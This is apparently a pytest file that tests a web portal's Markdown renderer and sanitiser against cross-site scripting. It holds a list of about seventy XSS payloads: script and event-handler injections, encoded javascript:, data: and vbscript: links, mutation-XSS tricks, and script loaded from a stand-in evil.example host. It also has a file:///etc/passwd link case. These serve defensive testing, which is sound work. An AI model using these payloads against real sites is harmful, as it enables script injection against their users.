"""render_markdown: the one place where user text becomes markup, attacked directly.

The checks parse the output with the standard library's html.parser and look at what a browser
would see: elements, attributes and URL schemes. They do not trust portal.markup's own allow-list;
the lists below are an independent copy, so widening the sanitiser's allow-list has to be a
deliberate change here too.

XSS_PAYLOADS and the html checks are reused by tests/test_security.py for the end-to-end tests.
"""
from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from portal.markup import render_markdown

# What rendered Markdown may contain, and nothing else.
MARKUP_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "li", "ol", "p", "pre", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead",
    "tr", "ul",
})
MARKUP_ATTRIBUTES = frozenset({"href", "title", "rel", "align"})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})

# Elements that must never reach a page, whatever produced it: active content, embedding,
# document-level overrides and CSS.
ACTIVE_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "template",
    "style", "base", "noscript", "xmp", "plaintext", "listing", "portal", "isindex", "xss",
})
# Attributes that carry a URL a browser may load or navigate to.
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset",
    "cite", "codebase", "dynsrc", "lowsrc", "ping", "longdesc", "manifest", "icon", "profile",
    "usemap", "classid", "archive", "srcdoc",
})
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an (already entity-decoded) attribute value, lowercased.

    Follows the URL standard, slightly stricter: leading and trailing whitespace and control
    characters are stripped, tabs, newlines and every other control character are removed
    anywhere (browsers remove only tab, CR and LF inside). A space inside the would-be scheme
    ("javascript  :x") makes it a relative path in every browser, so it is kept. None for a
    relative URL.
    """
    stripped = value.strip("".join(chr(c) for c in range(0x21)) + "\x7f" + "\u00a0\u2028\u2029\ufeff")
    squeezed = "".join(ch for ch in stripped if unicodedata.category(ch) != "Cc").lower()
    match = _SCHEME.match(squeezed)
    return match.group(1) if match else None


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]


@dataclass
class ParsedHTML:
    elements: list[Element] = field(default_factory=list)
    text: str = ""


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.result = ParsedHTML()
        self._text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.result.elements.append(Element(tag.lower(), [(k.lower(), v) for k, v in attrs]))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self._text.append(data)


def parse_html(html: str) -> ParsedHTML:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    collector.result.text = "".join(collector._text)
    return collector.result


def html_problems(
    html: str,
    *,
    allowed_tags: frozenset[str] | None = None,
    allowed_attributes: frozenset[str] | None = None,
) -> list[str]:
    """Everything in this HTML that could run script, load active content or restyle the page."""
    problems = []
    for element in parse_html(html).elements:
        tag = element.tag
        if tag in ACTIVE_TAGS:
            problems.append(f"<{tag}> element")
        elif allowed_tags is not None and tag not in allowed_tags:
            problems.append(f"<{tag}> is not an allowed element")
        for name, value in element.attrs:
            value = value or ""
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…> event handler")
            elif name == "style":
                problems.append(f"<{tag} style=…> style attribute")
            elif allowed_attributes is not None and name not in allowed_attributes:
                problems.append(f"<{tag} {name}=…> is not an allowed attribute")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"<{tag} {name}={value!r}> has the scheme {scheme}:")
            if tag == "meta" and name == "http-equiv" and value.strip().lower() == "refresh":
                problems.append("<meta http-equiv=refresh>")
    return problems


def assert_safe_markup(html: str) -> None:
    problems = html_problems(html, allowed_tags=MARKUP_TAGS, allowed_attributes=MARKUP_ATTRIBUTES)
    assert not problems, f"{problems} in {html!r}"


# At least thirty distinct ways in: (id, text). None contains a NUL, so every one can also be
# stored by any database in the end-to-end tests. All are under the 300-character title limit.
XSS_CASES: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("raw-a-js", '<a href="javascript:alert(1)">raw link</a>'),
    ("raw-a-onclick", '<a href="https://example.com" onclick="alert(1)">raw link</a>'),
    ("raw-a-entity-js", '<a href="&#x6A;avascript:alert(1)">raw link</a>'),
    ("md-link-js", "[click](javascript:alert(1))"),
    ("md-link-js-case", "[click](JaVaScRiPt:alert(1))"),
    ("md-link-js-angle", "[click](<javascript:alert(1)>)"),
    ("md-link-js-title", '[click](javascript:alert(1) "title")'),
    ("md-link-js-entity-dec", "[click](&#106;avascript:alert(1))"),
    ("md-link-js-entity-hex", "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))"),
    ("md-link-js-colon-entity", "[click](javascript&colon;alert(1))"),
    ("md-link-js-tab-entity", "[click](java&#x09;script:alert(1))"),
    ("md-link-js-newline-entity", "[click](java&#10;script:alert(1))"),
    ("md-link-js-leading-ctrl", "[click](\x01javascript:alert(1))"),
    ("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-link-attr-breakout", '[click](https://example.com" onmouseover="alert(1))'),
    ("md-title-breakout", '[click](https://example.com "x\\" onclick=\\"alert(1)")'),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-reference-js", "[click][ref]\n\n[ref]: javascript:alert(1)"),
    ("md-reference-angle-js", '[click][ref]\n\n[ref]: <javascript:alert(1)> "t"'),
    ("md-image-js", "![pic](javascript:alert(1))"),
    ("md-image-onerror", '![pic" onerror="alert(1)](https://example.com/x.png)'),
    ("md-image-src-breakout", '![pic](x" onerror="alert(1))'),
    ("md-nested-html-in-link", "[<img src=x onerror=alert(1)>](https://example.com)"),
    ("md-nested-bold-html", "**<img src=x onerror=alert(1)>** and _<svg onload=alert(1)>_"),
    ("md-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("md-attr-list", '# Heading {: onclick="alert(1)" style="color:red" }'),
    ("style-expression", '<p style="width: expression(alert(1))">x</p>'),
    ("style-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-element-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-element-css", "<style>body{background:url('javascript:alert(1)')}</style>"),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">click</math>'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("comment", "<!--<script>alert(1)</script>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("attr-breakout-dq", '"><script>alert(1)</script>'),
    ("attr-breakout-sq", "'><svg/onload=alert(1)>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("unicode-fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("unicode-small-brackets", "\ufe64script\ufe65alert(1)\ufe64/script\ufe65"),
    ("unicode-zero-width-js", "[click](\u200bjavascript:alert(1))"),
    ("unicode-rtl-override", "[click](\u202ejavascript:alert(1)) <a href=\"\u202ejavascript:alert(1)\">x</a>"),
    ("unicode-long-s-script", "<\u017fcript>alert(1)</\u017fcript>"),
    ("template-injection", "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7}"),
]
XSS_PAYLOADS = [pytest.param(text, id=name) for name, text in XSS_CASES]


def test_there_are_at_least_thirty_distinct_payloads():
    assert len({text for _, text in XSS_CASES}) == len(XSS_CASES) >= 30
    assert len({name for name, _ in XSS_CASES}) == len(XSS_CASES)


# -- Markdown that should render ---------------------------------------------------------------

def test_tables_render():
    html = render_markdown("| Act | Article |\n|-----|--------:|\n| DSA | 16 |\n| DMA | 6 |")
    tags = [element.tag for element in parse_html(html).elements]
    for tag in ("table", "thead", "tbody", "tr", "th", "td"):
        assert tag in tags, html
    assert tags.count("td") == 4
    assert "DSA" in parse_html(html).text
    assert_safe_markup(html)


def test_fenced_code_renders_and_keeps_its_text_literal():
    source = '```python\nif a < b and "<b>" in s:\n    print("<script>")\n```'
    html = render_markdown(source)
    elements = parse_html(html).elements
    assert [element.tag for element in elements] == ["pre", "code"], html
    assert 'if a < b and "<b>" in s:\n    print("<script>")' in parse_html(html).text
    assert_safe_markup(html)


def test_inline_markdown_renders():
    html = render_markdown("**bold** _em_ `code` ~~no~~\n\n- one\n- two\n\n1. first\n\n> quoted")
    tags = {element.tag for element in parse_html(html).elements}
    assert {"strong", "em", "code", "ul", "ol", "li", "blockquote"} <= tags, html
    assert_safe_markup(html)


@pytest.mark.parametrize("source", [
    "<b>bold</b>",
    "<div>block</div>",
    '<a href="https://example.com">raw link</a>',
    "<table><tr><td>cell</td></tr></table>",
    "<em>x</em> and <strong>y</strong>",
])
def test_raw_html_is_text_not_markup(source):
    """Raw HTML is shown as typed, even for tags the sanitiser would allow."""
    parsed = parse_html(render_markdown(source))
    assert [element.tag for element in parsed.elements] == ["p"], parsed
    assert parsed.text == source


# -- Links -------------------------------------------------------------------------------------

@pytest.mark.parametrize("source, href", [
    ("[site](https://example.com/a?b=1)", "https://example.com/a?b=1"),
    ('[site](https://example.com "A title")', "https://example.com"),
    ("<https://example.com/auto>", "https://example.com/auto"),
    ("[site][ref]\n\n[ref]: http://example.com/ref", "http://example.com/ref"),
    ("<official@example.eu>", "mailto:official@example.eu"),
    ("[write](mailto:official@example.eu)", "mailto:official@example.eu"),
    ("[same site](/notes/1)", "/notes/1"),
])
def test_links_survive_with_nofollow_and_noopener(source, href):
    html = render_markdown(source)
    links = [dict(element.attrs) for element in parse_html(html).elements if element.tag == "a"]
    assert len(links) == 1, html
    assert links[0]["href"] == href
    rel = set((links[0].get("rel") or "").split())
    assert {"nofollow", "noopener"} <= rel, html
    assert_safe_markup(html)


DANGEROUS_TARGETS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)",
    "javascript\t:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106;&#0000097;vascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript:%61lert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    " data:text/html,x",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "vb&#115;cript:msgbox(1)",
]
LINK_FORMS = {
    "inline": "[click]({url})",
    "inline-angle": "[click](<{url}>)",
    "inline-title": '[click]({url} "t")',
    "reference": "[click][ref]\n\n[ref]: {url}",
    "reference-angle": "[click][ref]\n\n[ref]: <{url}>",
    "autolink": "<{url}>",
    "image": "![pic]({url})",
}
@pytest.mark.parametrize("form", LINK_FORMS.values(), ids=LINK_FORMS.keys())
@pytest.mark.parametrize("url", DANGEROUS_TARGETS)
def test_dangerous_schemes_never_survive(form, url):
    html = render_markdown(form.format(url=url))
    assert_safe_markup(html)
    for element in parse_html(html).elements:
        for name, value in element.attrs:
            if name in URL_ATTRIBUTES:
                assert url_scheme(value or "") not in {"javascript", "vbscript", "data"}, html


@pytest.mark.parametrize("url", [
    "ftp://example.com/file", "file:///etc/passwd", "tel:+3222991111", "sms:+3222991111",
    "blob:https://example.com/uuid", "intent://scan/#Intent;scheme=zxing;end", "ms-settings:",
])
def test_only_http_https_and_mailto_schemes_survive(url):
    html = render_markdown(f"[click]({url}) <{url}>")
    assert_safe_markup(html)
    hrefs = [value for element in parse_html(html).elements for name, value in element.attrs if name == "href"]
    assert hrefs == [], html


def test_url_scheme_helper():
    assert url_scheme("https://example.com") == "https"
    assert url_scheme("/notes/1") is None
    assert url_scheme("#reply-2") is None
    assert url_scheme(" \tJava\nScr\ript:alert(1)") == "javascript"
    assert url_scheme("\u00a0\x0cjavascript:alert(1)") == "javascript"
    assert url_scheme("java  script:alert(1)") is None  # a relative path to a browser
    assert url_scheme("\x01javascript:alert(1)") == "javascript"
    assert url_scheme("%6Aavascript:alert(1)") is None  # a relative path to a browser


def test_html_checker_catches_what_it_should():
    """The checker itself: every kind of problem it must report, on unsanitised HTML."""
    assert html_problems("<p>fine <a href='https://x.example' rel='nofollow'>x</a></p>",
                         allowed_tags=MARKUP_TAGS, allowed_attributes=MARKUP_ATTRIBUTES) == []
    for bad in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1)>x</p>",
        "<p style='color:red'>x</p>",
        "<a href=' JaVa\tScRiPt:alert(1)'>x</a>",
        "<a href='&#x6A;avascript:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<form action='javascript:alert(1)'></form>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<img src=x>",
        "<p class=x>x</p>",
    ]:
        assert html_problems(bad, allowed_tags=MARKUP_TAGS, allowed_attributes=MARKUP_ATTRIBUTES), bad


# -- The payloads ------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_inert(payload):
    html = render_markdown(payload)
    assert_safe_markup(html)
    for element in parse_html(html).elements:
        if element.tag == "a":
            assert {"nofollow", "noopener"} <= set((dict(element.attrs).get("rel") or "").split()), html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_inert_inside_markdown_structures(payload):
    """The same payloads in a list, a quote, a table cell and link text."""
    one_line = " ".join(payload.split())
    source = f"- {one_line}\n\n> {one_line}\n\n| a |\n|---|\n| {one_line.replace('|', '')} |\n\n[{one_line}](https://example.com)"
    assert_safe_markup(render_markdown(source))


def test_raw_script_tag_is_shown_as_text():
    parsed = parse_html(render_markdown("Before <script>alert(1)</script> after"))
    assert "<script>alert(1)</script>" in parsed.text
    assert all(element.tag != "script" for element in parsed.elements)


def test_table_alignment_survives_sanitising():
    html = render_markdown("| left | right |\n|:--|--:|\n| 1 | 2 |")
    assert '<td align="left">1</td>' in html and '<td align="right">2</td>' in html
